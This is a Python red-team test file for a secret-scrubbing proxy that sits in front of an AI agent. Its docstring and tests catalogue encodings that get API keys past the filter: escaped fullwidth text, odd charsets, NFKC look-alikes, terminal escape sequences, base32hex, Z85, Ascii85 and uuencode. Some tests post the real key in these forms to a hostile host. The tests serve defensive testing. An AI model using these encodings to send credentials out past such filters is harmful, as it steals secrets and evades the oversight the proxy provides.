"""Red team, sixteenth pass: the forms and the cleaning client's view added after red team 15
(base32, base85, Ascii85, one-line uuencode; NFKC-folded bodies), and what they leave next to
them, against a real ``sandgate proxy`` in the first red team's world (its hostile HTTPS upstream,
bound to ``rthostile``, receives the real key after the swap and answers with whatever it likes;
``rtapi`` is bound to api.openai.com only, and the hostile host is allowed but unbound for it).

A break is ``xfail(strict=True, raises=AssertionError)``: its fix turns it into a failure to unmark.
What held is a plain test. What the agent got is read as a real client reads it: the stdlib's
decoders, ``requests``' ``str(content, charset)``, ``unicodedata.normalize("NFKC")`` (the cleaning
client proxy.core.fold models), a terminal's screen (what ``tmux capture-pane`` gives a harness
that runs commands in tmux) and strip-ansi (ansi-regex 6, what agent harnesses strip command
output with; the proxy's shift view says it models it). Every break but ``uuencode-backtick`` is
deterministic: the upstream's encoding leaves no run of 9 characters of the key in any view,
whatever the random key.

Fixed later (2026-12-04, evening): ``binary-to-text-variants``' base32hex and Z85 (both forms now,
at every alignment, as base32's and base85's), and so ``outbound-escaped-forms``' base32hex query.

Fixed on merging (2026-12-04): ``uuencode-backtick`` (uuencode forms with a backtick for a zero
group too) and ``escaped-fullwidth`` (each first decoded view that is UTF-8 is read as a cleaning
client reads it too; HTML's numeric and named references of characters that are not ASCII decode
to their UTF-8; JSON's ``\\uXXXX`` of one is read as the cleaning client reads the character), and
so ``outbound-escaped-forms``' JSON case.

Breaks (as found):

- ``escaped-fullwidth`` (invariant 3; the whole key): the key in fullwidth forms (the form red
  team 15's ``fullwidth-body`` fix reads), escaped so the body is ASCII: a JSON string written by
  ``json.dumps`` (``"\\uff52\\uff54\\uff32..."``, ``application/json``), HTML character references
  (``&#xFF52;...``, ``text/html``) or percent-encoded UTF-8 (``k=%EF%BD%92...``,
  ``application/x-www-form-urlencoded``). The fold view is made of the raw bytes only when they
  are not ASCII; the escape views decode only escapes of printable ASCII (``\\u00XX``,
  ``&#x73;``), and the percent view's UTF-8 is never folded. ``json.loads`` / ``html.unescape`` /
  ``urllib.parse.parse_qs``, then NFKC: the key. Fix: fold the first views too (or decode escapes
  of U+FF10-FF5A and U+1D400-1D7FF to the ASCII they fold to).
- ``declared-charset-fullwidth`` (3; the whole key): ``Content-Type: text/plain;
  charset=shift_jis`` (or ``euc-kr``, ``gbk``; or ``utf-16`` with the key in mathematical bold,
  surrogate pairs), the key in fullwidth (or mathematical) forms encoded in that charset. The fold
  view decodes UTF-8 only (these bytes are not UTF-8: what is left after dropping bytes above 0x7F
  is garbage), and no view decodes a declared charset but UTF-7. ``requests``' ``.text``
  (``str(body, charset)``) then NFKC: the key. Fix: read a body whose declared charset is not
  ASCII-compatible or is multi-byte in that charset, and fold that text.
- ``charset-unicode-escape`` (3; the whole key, no folding needed): ``Content-Type: text/plain;
  charset=unicode_escape``, the key with a backslash-newline every 6 characters. Python's
  ``unicode_escape`` codec drops a backslash-newline (a line continuation); the quoted-pair view
  drops the backslash but keeps the newline, the wrapped-base64 view wants 16 base64 characters
  before a break. ``requests``' ``.text`` (``str(body, "unicode_escape")``, the charset from the
  label, no special effort): the key. Fix: a view that drops ``\\`` + line break (or decode a
  declared ``unicode_escape``/``raw_unicode_escape`` body).
- ``nfkc-outside-the-gate`` (3; the whole key): a ``text/plain; charset=utf-8`` body, the key
  with its digits as SEGMENTED DIGIT (U+1FBF0-1FBF9), ``A`` as SQUARED LATIN CAPITAL A
  (U+1F130), ``R E L`` and ``h o e i`` as letterlike symbols (U+211B, U+2130, U+2112; U+210E,
  U+2134, U+212F, U+2139), ``l c d`` as small Roman numerals (U+217C-217E), ``s`` as LONG S
  (U+017F); the rest ASCII. No fullwidth or mathematical letter is there, so fold_bytes does not
  NFKC: it drops every non-ASCII character, leaving ``rt...t`` and scattered ``a b f``. NFKC
  (the same cleaning client) folds every one of them to ASCII: the key. Fix: gate NFKC on any
  character whose NFKC is ASCII (a table of their UTF-8 lead sequences), or always NFKC.
- ``terminal-controls`` (3; the whole key): a ``text/plain`` body, the key with, every 6
  characters, ``ESC =`` (DECKPAM: less and readline write it), ``ESC 7`` (DECSC), ``ESC ) 0``
  (designate G1: ncurses), a lone ``ESC \\`` (ST), the C1 CSI ``U+009B`` + ``0m`` (UTF-8), a C0
  control (``\\x01``) or DEL, or each character followed by ``Z`` + backspace (overstrike). The
  shift view drops CSI, OSC and ``ESC [()*+]? [@-Z]`` only; nothing drops other C0 controls or
  DEL, or reads backspaces. A terminal acts on them and shows nothing (tmux capture-pane: the
  key); strip-ansi strips ``ESC =`` and ``U+009B 0m`` (``ESC 7`` and ``ESC ) 0`` with the character
  after them: only the terminal reads those); a ``str.isprintable``
  cleaner drops ``\\x01`` and DEL. Fix: drop every ECMA-48 escape (``ESC [ -/]* [0-~]``, C1 CSI,
  DCS/APC/PM/SOS strings), C0 controls but the blanks and DEL in the shift view, and read
  ``X BS`` as nothing.
- ``sse-terminal-controls`` (3; the whole key): the same separators in an SSE chat completion
  stream, one piece of 6 characters and ``ESC =`` (or ``\\x01``) per ``delta.content``: token
  texts are NFKC-folded and stripped of format characters, not of controls. The openai SDK joins
  the deltas; the terminal shows / strip-ansi leaves the key. Fix: as above, in the texts' view.
- ``binary-to-text-variants`` (3; the whole key): a JSON ``id`` that is the key in base32hex
  (``base64.b32hexencode``, RFC 4648's extended-hex alphabet, a stdlib call like ``b32encode``)
  or Z85 (ZeroMQ; ``base64.z85encode`` since Python 3.13 is ``b85encode`` with another alphabet),
  or a ``text/plain`` body that is the key in Ascii85 wrapped every 8 columns
  (``a85encode(wrapcol=8)``; ``a85decode`` skips whitespace by default). None is a form.
  ``b32hexdecode`` / ``z85decode`` / ``a85decode``: the key. Fix: base32hex (5 alignments) and Z85
  (4) forms as base32's and base85's; an Ascii85 view that drops whitespace between Ascii85
  characters.
- ``uuencode-backtick`` (3; the whole key, for ~35% of random keys): a ``text/plain`` body that is
  the key uuencoded as GNU ``uuencode`` writes a zero 6-bit group, a backtick
  (``binascii.b2a_uu(key, backtick=True)``). The form is ``b2a_uu``'s with a space there, so a key
  with a zero group (a ``0`` then a digit at a group's second byte) is in no form. ``a2b_uu`` reads
  both: the key. The end-to-end test is skipped for a key without one; a test on the finder with a
  fixed key shows it every run. Fix: uuencode forms with a backtick for a zero group too.
- ``outbound-escaped-forms`` (invariants 1/2; the whole of ``rtapi``'s key): requests to the
  hostile host (allowed, unbound for ``rtapi``) carrying ``rtapi``'s real value as JSON-escaped
  fullwidth, as letterlike/segmented/Roman forms, with ``ESC =`` between pieces, or in base32hex
  in the query: all forwarded (the raw value and its raw fullwidth form are refused). The receiver
  reads the key with ``json.loads`` + NFKC, NFKC, strip-ansi, ``b32hexdecode``. The same gaps as
  above in the outbound guard's views. Fix: the fixes above, in ``views``.

Held (passing tests): fullwidth key split over SSE deltas (refused); the letterlike/segmented mix
as one SSE delta (refused: token texts are folded whole); base32, base85 and Ascii85 of the key
cut into 8/7/6-character deltas on one path (refused); base32 with its ``A`` JSON-escaped
(``\\u0041``: replaced); base85 HTML-escaped and percent-encoded, base32 in fullwidth and in
UTF-16LE (refused); base32 without its padding
(replaced); a gzip ``Content-Encoding`` body with the base32 form (replaced after decoding);
outbound: the raw fullwidth value, a zero-width space every 6 characters, and base85 (refused).
"""

from __future__ import annotations

import base64
import binascii
import gzip
import html
import json
import re
import time
import unicodedata
import urllib.parse
from collections.abc import Callable

import pytest

from proxy.core.scrub import ScrubRefused, scrub_whole
from proxy.core.values import Finder
from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.core.test_runs import longest_run
from tests.proxy.test_redteam import API, HOST, HOSTILE_NAME, ask, fetch, get
from tests.proxy.test_redteam15 import agent_body, answer, serve
from tests.support.encodings import z85decode, z85encode
from tests.support.hostile import HostileServer, Request
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, rt = world.hostile_ca, world.hostile, world.rt

RUN = 16


def got(raw: bytes) -> bytes:
    """The body the agent got (empty when the proxy refused the response)."""
    return agent_body(raw) if raw.startswith(b"HTTP/1.1 200") else b""


# -- what clients read --------------------------------------------------------------------------------


def nfkc(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) for c in text)


# A terminal's parser (ECMA-48, as xterm and tmux read it): strings (DCS, SOS, OSC, PM, APC) up to
# their terminator, CSI (7-bit or C1), and any other escape (intermediates, then a final byte).
_TERMINAL_SEQ = re.compile(
    "\x1b[PX\\]^_][^\x07\x1b\x9c]*(?:\x07|\x1b\\\\|\x9c)?|(?:\x1b\\[|\x9b)[0-?]*[ -/]*[@-~]|\x1b[ -/]*[0-~]"
)


def terminal(text: str) -> str:
    """The screen a terminal shows of ``text`` (what ``tmux capture-pane`` returns): escape
    sequences act and show nothing, BS moves the cursor back (the next character overwrites), CR to
    the line's start, other C0 and C1 controls and DEL show nothing."""
    lines: list[str] = []
    line: list[str] = []
    col = 0
    i = 0
    while i < len(text):
        m = _TERMINAL_SEQ.match(text, i)
        if m is not None:
            i = m.end()
            continue
        c = text[i]
        i += 1
        if c == "\n":
            lines.append("".join(line))
            line, col = [], 0
        elif c == "\r":
            col = 0
        elif c == "\b":
            col = max(0, col - 1)
        elif c.isprintable():
            if col < len(line):
                line[col] = c
            else:
                line.append(c)
            col += 1
    lines.append("".join(line))
    return "\n".join(lines)


# ansi-regex 6 (what strip-ansi 7 removes), as written in JavaScript.
_ST = "(?:\x07|\x1b\\\\|\x9c)"
_ANSI_REGEX = re.compile(
    "[\x1b\x9b][\\[\\]()#;?]*(?:(?:(?:(?:;[-a-zA-Z\\d/#&.:=?%@~_]+)*|[a-zA-Z\\d]+(?:;[-a-zA-Z\\d/#&.:=?%@~_]*)*)?"
    + _ST
    + ")|(?:(?:\\d{1,4}(?:;\\d{0,4})*)?[\\dA-PR-TZcf-nq-uy=><~]))"
)


def strip_ansi(text: str) -> str:
    return _ANSI_REGEX.sub("", text)


def printable(text: str) -> str:
    """A cleaner that keeps what ``str.isprintable`` keeps (and line ends)."""
    return "".join(c for c in text if c.isprintable() or c in "\n\t")


def _text(body: bytes) -> str:
    return body.decode("utf-8", "replace")


# Compatibility forms outside fold_bytes's gate (fullwidth, mathematical, the letterlike symbols
# that stand for one letter), each NFKC-folded to one ASCII character: segmented digits, squared and
# circled capitals, modifier and subscript letters, small Roman numerals, the long s. (The
# letterlike ``U+211B`` and its kind were here until they were read, red team 44; the rest are read
# by the view of a client that strips accents, NFKD, since red team 47.)
_OUTSIDE_GATE = {
    **{str(d): chr(0x1FBF0 + d) for d in range(10)},
    "A": "\U0001f130",
    "R": "\u24c7",
    "E": "\u24ba",
    "L": "\u24c1",
    "h": "\u02b0",
    "o": "\u2092",
    "e": "\u2091",
    "i": "\u2071",
    "l": "\u217c",
    "c": "\u217d",
    "d": "\u217e",
    "s": "\u017f",
}


def outside_gate(text: str) -> str:
    out = "".join(_OUTSIDE_GATE.get(c, c) for c in text)
    assert nfkc(out) == text
    return out


def math_bold(text: str) -> str:
    """Mathematical bold letters and digits (U+1D400...), NFKC-folded to ``text``."""

    def one(c: str) -> str:
        if c.isdigit():
            return chr(0x1D7CE + int(c))
        if c.isupper():
            return chr(0x1D400 + ord(c) - ord("A"))
        if c.islower():
            return chr(0x1D41A + ord(c) - ord("a"))
        return c

    out = "".join(one(c) for c in text)
    assert nfkc(out) == text
    return out


def every(text: str, n: int, sep: str) -> str:
    return sep.join(text[i : i + n] for i in range(0, len(text), n))


def _xfail(reason: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=reason)


# -------------------------------------------------------------------------------------- breaks

# (Content-Type, what the upstream writes of the key, how a client reads the body)
Case = tuple[str, Callable[[str], bytes], Callable[[bytes], str]]

ESCAPED_FULLWIDTH: dict[str, Case] = {
    "json-u-escapes": (
        "application/json",
        lambda t: json.dumps({"error": "invalid_api_key", "id": fullwidth(t)}).encode(),
        lambda b: nfkc(json.loads(b)["id"]),
    ),
    "html-char-refs": (
        "text/html; charset=utf-8",
        lambda t: ("<p>Your key: " + "".join(f"&#x{ord(c):X};" for c in fullwidth(t)) + "</p>").encode(),
        lambda b: nfkc(html.unescape(_text(b))),
    ),
    "percent-utf8": (
        "application/x-www-form-urlencoded",
        lambda t: ("k=" + urllib.parse.quote(fullwidth(t))).encode(),
        lambda b: nfkc(urllib.parse.parse_qs(_text(b)).get("k", [""])[0]),
    ),
}


@pytest.mark.parametrize("name", list(ESCAPED_FULLWIDTH))
def test_escaped_fullwidth(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    ctype, make, read = ESCAPED_FULLWIDTH[name]
    path = f"/rt16/escfw-{name}"
    body = answer(rt, hostile, path, ctype, make)
    text = read(body) if body else ""
    assert longest_run(text.encode(), HOST.real) < RUN, f"the key reached the agent ({name})"


CHARSETS: dict[str, Callable[[str], str]] = {
    "shift_jis": fullwidth,
    "euc-kr": fullwidth,
    "gbk": fullwidth,
    "utf-16": math_bold,
}


@_xfail("no view reads a declared multi-byte charset: the fold view is UTF-8's")
@pytest.mark.parametrize("charset", list(CHARSETS))
def test_declared_charset_fullwidth(rt: ProxyProcess, hostile: HostileServer, charset: str) -> None:
    path = f"/rt16/charset-{charset}"
    body = answer(rt, hostile, path, f"text/plain; charset={charset}", lambda t: CHARSETS[charset](t).encode(charset))
    # requests' Response.text: str(content, encoding, errors="replace"), the charset from the label
    assert longest_run(nfkc(str(body, charset, "replace")).encode(), HOST.real) < RUN


@_xfail("no view drops a backslash-newline (unicode_escape's line continuation)")
def test_charset_unicode_escape(rt: ProxyProcess, hostile: HostileServer) -> None:
    path = "/rt16/charset-unicode-escape"
    body = answer(rt, hostile, path, "text/plain; charset=unicode_escape", lambda t: every(t, 6, "\\\n").encode())
    assert longest_run(str(body, "unicode_escape", "replace").encode(), HOST.real) < RUN


def test_nfkc_outside_the_gate(rt: ProxyProcess, hostile: HostileServer) -> None:
    path = "/rt16/nfkc-outside-gate"
    body = answer(
        rt, hostile, path, "text/plain; charset=utf-8", lambda t: ("Your key: " + outside_gate(t) + "\n").encode()
    )
    assert longest_run(nfkc(_text(body)).encode(), HOST.real) < RUN


# (separator or make, the client)
TERMINAL: dict[str, tuple[Callable[[str], str], Callable[[str], str]]] = {
    "esc-deckpam": (lambda t: every(t, 6, "\x1b="), strip_ansi),
    "esc-decsc": (lambda t: every(t, 6, "\x1b7"), terminal),  # (strip-ansi eats the next character too)
    "esc-scs-g1": (lambda t: every(t, 6, "\x1b)0"), terminal),
    "c1-csi": (lambda t: every(t, 6, "\x9b0m"), strip_ansi),
    "lone-st": (lambda t: every(t, 6, "\x1b\\"), terminal),
    "c0-soh": (lambda t: every(t, 6, "\x01"), printable),
    "del": (lambda t: every(t, 6, "\x7f"), printable),
    "overstrike": (lambda t: "".join(c + "Z\b" for c in t), terminal),
}


# (C1's CSI: read since the skeleton of a whole body drops it, red team 21's session; C0 controls,
# DEL and every ESC form since the skeleton drops them too, 2026-12-05.)
@pytest.mark.parametrize(
    "name",
    [
        pytest.param(n, marks=_xfail("a terminal's cursor moves are not read: the character a BS lets overwrite"))
        if n == "overstrike"
        else n
        for n in TERMINAL
    ],
)
def test_terminal_controls(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    make, client = TERMINAL[name]
    path = f"/rt16/term-{name}"
    text = _text(
        answer(rt, hostile, path, "text/plain; charset=utf-8", lambda t: ("$ env\nKEY=" + make(t) + "\n").encode())
    )
    assert longest_run(client(text).encode(), HOST.real) < RUN
    assert longest_run(terminal(text).encode(), HOST.real) < RUN, "a terminal shows the key"


def _sse(texts: list[str]) -> bytes:
    events = [
        b"data: "
        + json.dumps({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": t}}]}).encode()
        for t in texts
    ]
    return b"\n\n".join([*events, b"data: [DONE]"]) + b"\n\n"


def _sse_content(body: bytes) -> str:
    """What the openai SDK's stream gives a caller that joins ``delta.content``."""
    out = []
    for line in body.split(b"\n"):
        if line.startswith(b"data: {"):
            try:
                out.append(json.loads(line[6:])["choices"][0]["delta"].get("content") or "")
            except ValueError:
                break
    return "".join(out)


def _pieces(text: str, n: int) -> list[str]:
    return [text[i : i + n] for i in range(0, len(text), n)]


SSE_SEPARATORS = {"esc-deckpam": ("\x1b=", strip_ansi), "c0-soh": ("\x01", printable)}


@pytest.mark.parametrize("name", list(SSE_SEPARATORS))
def test_sse_terminal_controls(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    sep, client = SSE_SEPARATORS[name]
    path = f"/rt16/sse-term-{name}"
    serve(hostile, path, "text/event-stream", lambda t: _sse([p + sep for p in _pieces(t, 6)]))
    raw = fetch(rt, path)
    assert raw.startswith(b"HTTP/1.1 200")
    content = _sse_content(agent_body(raw))
    assert longest_run(client(content).encode(), HOST.real) < RUN


def _json_id(encode: Callable[[bytes], bytes]) -> Callable[[str], bytes]:
    return lambda t: json.dumps({"error": "invalid_api_key", "id": encode(t.encode()).decode()}).encode()


def _read_id(decode: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    return lambda body: decode(json.loads(body)["id"].encode())


VARIANTS: dict[str, tuple[str, Callable[[str], bytes], Callable[[bytes], bytes]]] = {
    "base32hex": ("application/json", _json_id(base64.b32hexencode), _read_id(base64.b32hexdecode)),
    "z85": ("application/json", _json_id(z85encode), _read_id(z85decode)),
    "ascii85-wrapped": ("text/plain", lambda t: base64.a85encode(t.encode(), wrapcol=8), base64.a85decode),
}


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(n, marks=_xfail("no view drops the blanks between Ascii85 characters"))
        if n == "ascii85-wrapped"
        else n
        for n in VARIANTS
    ],
)
def test_binary_to_text_variants(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    ctype, make, read = VARIANTS[name]
    path = f"/rt16/variant-{name}"
    body = answer(rt, hostile, path, ctype, make)
    assert longest_run(read(body) if body else b"", HOST.real) < RUN, f"the key reached the agent in {name}"


def _post(path: str, ctype: str, body: bytes) -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nContent-Type: {ctype}\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body


def _sent(rt: ProxyProcess, hostile: HostileServer, request: bytes) -> list[Request]:
    before = len(hostile.requests)
    ask(rt, HOSTILE_NAME, request)
    time.sleep(0.3)
    return hostile.requests[before:]


# (the request toward the unbound host, how its receiver reads what it got)
OUTBOUND: dict[str, tuple[Callable[[str], bytes], Callable[[Request], str]]] = {
    "json-escaped-fullwidth": (
        lambda v: _post("/rt16/out/json", "application/json", json.dumps({"note": fullwidth(v)}).encode()),
        lambda r: nfkc(json.loads(r.body)["note"]),
    ),
    "outside-gate": (
        lambda v: _post("/rt16/out/nfkc", "text/plain; charset=utf-8", outside_gate(v).encode()),
        lambda r: nfkc(_text(r.body)),
    ),
    "esc-deckpam": (
        lambda v: _post("/rt16/out/esc", "text/plain; charset=utf-8", every(v, 6, "\x1b=").encode()),
        lambda r: strip_ansi(_text(r.body)),
    ),
    "base32hex-query": (
        lambda v: get(f"/rt16/out/b32hex?q={base64.b32hexencode(v.encode()).decode()}"),
        lambda r: base64.b32hexdecode(urllib.parse.parse_qs(r.path.split("?", 1)[1])["q"][0]).decode(),
    ),
}


# (JSON's escapes of any character decoded; base32hex a form; a body held whole read in its skeleton;
# the stripping client's view, red team 47)
_OUTBOUND_HELD_SINCE = {"json-escaped-fullwidth", "base32hex-query", "esc-deckpam", "outside-gate"}


@pytest.mark.parametrize(
    "shape",
    [
        s
        if s in _OUTBOUND_HELD_SINCE
        else pytest.param(s, marks=_xfail("the outbound guard's views miss the same forms"))
        for s in OUTBOUND
    ],
)
def test_outbound_escaped_forms(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    make, read = OUTBOUND[shape]
    whole = ask(rt, HOSTILE_NAME, get(f"/rt16/out/{API.real}"))
    assert whole.status == 403 and whole.reason == "secret_value_outbound"  # the baseline
    received = _sent(rt, hostile, make(API.real))
    assert all(longest_run(read(r).encode(), API.real) < RUN for r in received), f"{shape}: reached an unbound host"


# ---------------------------------------------------------------------------------------- held


SSE_HELD: dict[str, Callable[[str], list[str]]] = {
    "fullwidth-deltas": lambda t: _pieces(fullwidth(t), 8),
    "outside-gate-one-delta": lambda t: [outside_gate(t)],
    "base32-deltas": lambda t: _pieces(base64.b32encode(t.encode()).decode(), 8),
    "base85-deltas": lambda t: _pieces(base64.b85encode(t.encode()).decode(), 7),
    "ascii85-deltas": lambda t: _pieces(base64.a85encode(t.encode()).decode(), 6),
}
_SSE_READ: dict[str, Callable[[str], bytes]] = {
    "fullwidth-deltas": lambda s: nfkc(s).encode(),
    "outside-gate-one-delta": lambda s: nfkc(s).encode(),
    "base32-deltas": lambda s: base64.b32decode(s + "=" * (-len(s) % 8)) if len(s) % 8 == 0 else s.encode(),
    "base85-deltas": lambda s: base64.b85decode(s) if s else b"",
    "ascii85-deltas": lambda s: base64.a85decode(s) if s else b"",
}


@pytest.mark.parametrize("name", list(SSE_HELD))
def test_sse_new_forms_across_deltas(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    """The new forms and the folded view in a chat completion stream, one piece a delta on one
    path: the stream is cut before the key is whole."""
    path = f"/rt16/sse-held-{name}"
    serve(hostile, path, "text/event-stream", lambda t: _sse(SSE_HELD[name](t)))
    content = _sse_content(agent_body(fetch(rt, path)))
    try:
        decoded = _SSE_READ[name](content)
    except (ValueError, binascii.Error):
        decoded = b""
    assert longest_run(content.encode() + b"\n" + decoded, HOST.real) < RUN


HELD: dict[str, tuple[str, Callable[[str], bytes], Callable[[bytes], bytes]]] = {
    "base32-json-escaped-A": (
        "application/json",
        lambda t: json.dumps({"id": base64.b32encode(t.encode()).decode()}).replace("A", "\\u0041").encode(),
        lambda b: base64.b32decode(json.loads(b)["id"]),
    ),
    "base85-html-escaped": (
        "text/html; charset=utf-8",
        lambda t: html.escape(base64.b85encode(t.encode()).decode()).encode(),
        lambda b: base64.b85decode(html.unescape(_text(b))),
    ),
    "base85-percent-encoded": (
        "application/x-www-form-urlencoded",
        lambda t: ("k=" + urllib.parse.quote(base64.b85encode(t.encode()).decode(), safe="")).encode(),
        lambda b: base64.b85decode(urllib.parse.parse_qs(_text(b))["k"][0]),
    ),
    "base32-fullwidth": (
        "text/plain; charset=utf-8",
        lambda t: fullwidth(base64.b32encode(t.encode()).decode()).encode(),
        lambda b: base64.b32decode(nfkc(_text(b))),
    ),
    "base32-utf-16le": (
        "text/plain; charset=utf-16le",
        lambda t: base64.b32encode(t.encode()).decode().encode("utf-16-le"),
        lambda b: base64.b32decode(b.decode("utf-16-le")),
    ),
    "base32-no-padding": (
        "application/json",
        lambda t: json.dumps({"id": base64.b32encode(t.encode()).decode().rstrip("=")}).encode(),
        lambda b: base64.b32decode(json.loads(b)["id"] + "=" * (-len(json.loads(b)["id"]) % 8)),
    ),
}


@pytest.mark.parametrize("name", list(HELD))
def test_new_forms_escaped_or_recoded(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    ctype, make, read = HELD[name]
    body = answer(rt, hostile, f"/rt16/held-{name}", ctype, make)
    try:
        decoded = read(body) if body else b""
    except (ValueError, binascii.Error):
        decoded = b""
    assert longest_run(body + b"\n" + decoded, HOST.real) < RUN


def _zero_group(value: str) -> bool:
    """Whether ``value``'s uuencoded line has a zero 6-bit group (written as a backtick by GNU
    uuencode and ``b2a_uu(backtick=True)``, as a space by ``b2a_uu``)."""
    return b"`" in binascii.b2a_uu(value.encode(), backtick=True)[1:-1]


def test_uuencode_backtick(rt: ProxyProcess, hostile: HostileServer) -> None:
    if not _zero_group(HOST.real):
        pytest.skip("this run's key has no zero 6-bit group (a '0' then a digit at the right offset)")
    path = "/rt16/uu-backtick"
    body = answer(rt, hostile, path, "text/plain", lambda t: binascii.b2a_uu(t.encode(), backtick=True))
    assert longest_run(binascii.a2b_uu(body) if body else b"", HOST.real) < RUN


def test_uuencode_backtick_fixed_key() -> None:
    """The same on the bound host's finder, with a key that has a zero group (``...01...`` at a
    group's second byte): deterministic."""
    key = "rtREALhostile" + "abc01" + "c" * 27
    assert _zero_group(key)
    finder = Finder.for_values([("k", key, "rt-PH-fixed-hostile")], runs=True)
    line = binascii.b2a_uu(key.encode(), backtick=True)
    try:
        out = scrub_whole(line, finder, lambda _: None)
    except ScrubRefused:
        out = b""
    assert longest_run(binascii.a2b_uu(out) if out else b"", key) < RUN


def test_gzip_body_with_base32_form(rt: ProxyProcess, hostile: HostileServer) -> None:
    """``Content-Encoding: gzip`` over a JSON body holding the key's base32: decoded, then replaced."""
    path = "/rt16/gzip-b32"
    serve(
        hostile,
        path,
        "application/json",
        lambda t: gzip.compress(json.dumps({"id": base64.b32encode(t.encode()).decode()}).encode()),
        extra="Content-Encoding: gzip\r\n",
    )
    raw = fetch(rt, path)
    body = got(raw)
    head = raw.partition(b"\r\n\r\n")[0].lower()
    plain = gzip.decompress(body) if b"content-encoding: gzip" in head and body else body
    decoded = base64.b32decode(json.loads(plain)["id"]) if plain else b""
    assert longest_run(plain + b"\n" + decoded, HOST.real) < RUN


OUTBOUND_HELD: dict[str, Callable[[str], bytes]] = {
    "fullwidth": lambda v: _post("/rt16/out-held/fw", "text/plain; charset=utf-8", fullwidth(v).encode()),
    "zero-width-spaces": lambda v: _post(
        "/rt16/out-held/zw", "text/plain; charset=utf-8", every(v, 6, "\u200b").encode()
    ),
    "base85": lambda v: _post("/rt16/out-held/b85", "application/octet-stream", base64.b85encode(v.encode())),
}


@pytest.mark.parametrize("shape", list(OUTBOUND_HELD))
def test_outbound_folded_forms_refused(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, OUTBOUND_HELD[shape](API.real))
    time.sleep(0.3)
    assert reply.status == 403 and reply.reason == "secret_value_outbound"
    assert not [r for r in hostile.requests[before:] if r.path.startswith("/rt16/out-held/")]
